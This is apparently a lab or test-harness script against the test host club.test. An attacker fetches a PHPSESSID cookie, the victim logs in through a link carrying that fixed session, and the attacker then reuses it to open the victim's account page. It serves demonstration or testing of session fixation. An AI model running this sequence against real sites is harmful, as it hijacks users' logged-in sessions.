# The attacker makes a session, has the victim log in with it by a prepared link, and then uses it.
record server eth0
on mallory curl -sS -o /dev/null -c "$WORK/jar" http://club.test/
planted=$(awk '$6 == "PHPSESSID" { print $7 }' "$WORK/jar")
browser alice
browse alice open "http://club.test/login?PHPSESSID=$planted"
browse alice fill '#username' alice
browse alice fill '#password' "$PASSWORD"
browse alice click '#go'
browse alice click '#orders'
sleep 2

http mallory -b "PHPSESSID=$planted" http://club.test/account
